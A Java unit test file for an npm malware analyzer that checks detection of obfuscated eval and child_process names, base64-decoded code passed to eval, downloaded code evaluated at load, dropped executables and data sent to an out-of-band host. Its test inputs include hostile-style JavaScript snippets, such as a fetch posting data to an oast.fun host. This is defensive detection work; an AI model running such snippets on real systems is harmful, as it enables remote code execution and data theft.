package dev.gatehouse.analyzer.npm;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Decoded and downloaded data followed to the code sinks, names folded from literal pieces, droppers and
 * out-of-band hosts: the flows {@link JsCapabilities} reports with both ends as evidence.
 */
class JsFlowTest {
  private static List<Sighting> atLoad(String source) {
    return JsCapabilities.analyze("x.js", source, 12, 1_000_000).sightings(true);
  }

  private static List<Signal> signals(String source) {
    return atLoad(source).stream().map(Sighting::signal).distinct().toList();
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "'ev' + 'al'|eval",
      "['ch', 'ild_', 'process'].join('')|child_process",
      "'lave'.split('').reverse().join('')|eval",
      "atob('ZXZhbA==')|eval",
      "String.fromCharCode(101, 118, 97, 108)|eval",
      "Buffer.from('6576616c', 'hex').toString()|eval",
      "('EV' + 'AL').toLowerCase()|eval",
  })
  void literalPiecesFoldToTheNameTheyBuild(String expression, String value) {
    JsStructure s = new JsStructure(JsTokenizer.tokenize("x = " + expression + ";", 10_000), 4);
    JsConstants constants = new JsConstants(s);
    assertThat(constants.of(2, s.t.size() - 2)).isEqualTo(value);
  }

  @Test
  void aVariableAssignedTwiceOrFromInputIsNoConstant() {
    JsStructure s = new JsStructure(JsTokenizer.tokenize(
        "let m = 'a'; m = 'b'; const n = process.argv[2]; const k = 'c'; f(m, n, k);", 10_000), 4);
    JsConstants constants = new JsConstants(s);
    int call = s.t.size() - 9; // f ( m , n , k ) ;
    assertThat(s.t.text(call)).isEqualTo("f");
    assertThat(constants.of(call + 2, call + 2)).isNull();
    assertThat(constants.of(call + 4, call + 4)).isNull();
    assertThat(constants.of(call + 6, call + 6)).isEqualTo("c");
  }

  @Test
  void decodedPayloadEvidenceNamesTheSinkAndTheDecoderWithTheirLines() {
    Sighting encoded = atLoad("""
        const blob = 'Y29uc29sZS5sb2coMSk=';
        const text = Buffer.from(blob, 'base64').toString();
        eval(text);
        """).stream().filter(x -> x.signal() == Signal.ENCODED).findFirst().orElseThrow();
    assertThat(encoded.line()).isEqualTo(3);
    assertThat(encoded.excerpt()).isEqualTo(
        "eval(text); [line 3] ← decoded by const text = Buffer.from(blob, 'base64').toString(); [line 2]");
  }

  @Test
  void aResponseCollectedInHandlersAndEvaluatedIsDownloadedCodeAtLoad() {
    assertThat(signals("""
        require('https').get('https://cdn.example.invalid/p.js', res => {
          let d = ''; res.on('data', c => d += c); res.on('end', () => eval(d));
        });
        """)).contains(Signal.FETCHED_CODE, Signal.NETWORK);
  }

  @Test
  void aResponseParsedAsJsonIsNotCode() {
    assertThat(signals("""
        require('https').get('https://api.example.invalid/v', res => {
          let d = ''; res.on('data', c => d += c); res.on('end', () => console.log(JSON.parse(d).version));
        });
        """)).containsExactly(Signal.NETWORK);
  }

  @Test
  void makingTheOwnBinaryExecutableIsNotADropperButADecodedFileIs() {
    assertThat(signals("const fs = require('fs'); fs.chmodSync(require('path').join(__dirname, 'bin/tool'), 0o755);"))
        .isEmpty();
    assertThat(signals("""
        const fs = require('fs');
        fs.writeFileSync('/tmp/x', Buffer.from('f0VMRgIBAQ==', 'base64'));
        fs.chmodSync('/tmp/x', '755');
        """)).contains(Signal.EXECUTABLE);
  }

  @Test
  void anOutOfBandHostCountsOnlyWhereTheFileReachesTheNetwork() {
    assertThat(signals("const docs = 'https://webhook.site/ explains webhooks';")).isEmpty();
    assertThat(signals("fetch('https://abc.oast.fun/x', { method: 'POST', body: process.cwd() });"))
        .contains(Signal.OUT_OF_BAND, Signal.NETWORK);
  }

  @Test
  void sinkNamesBuiltFromPiecesAreObfuscationAndPlainOnesAreNot() {
    assertThat(signals("require('child_' + 'process').exec('id');")).contains(Signal.OBFUSCATED, Signal.SPAWN);
    assertThat(signals("require('child_process')['exec']('id');")).containsExactly(Signal.SPAWN);
  }

  @Test
  void decodedDataHandedToALocalHelperReachesTheSinkInsideIt() {
    assertThat(signals("""
        function sh(c) { require('child_process').exec(c); }
        sh(atob('aWQ='));
        """)).contains(Signal.ENCODED, Signal.SPAWN);
    assertThat(signals("""
        function sh(c) { require('child_process').exec(c); }
        sh('git --version');
        """)).containsExactly(Signal.SPAWN);
  }

  @Test
  void theObfuscatorsStringTableRotationIsObfuscationWhateverTheNamesAndAQueueRotationIsNot() {
    assertThat(signals("var a=b();while(!![]){try{if(parseInt(c(1))===d)break;else a['push'](a['shift']());}"
        + "catch(e){a['push'](a['shift']());}}")).contains(Signal.OBFUSCATED);
    assertThat(signals("function next(q){q.push(q.shift());return parseInt(q[0],10);}next([1,2]);")).isEmpty();
  }
}
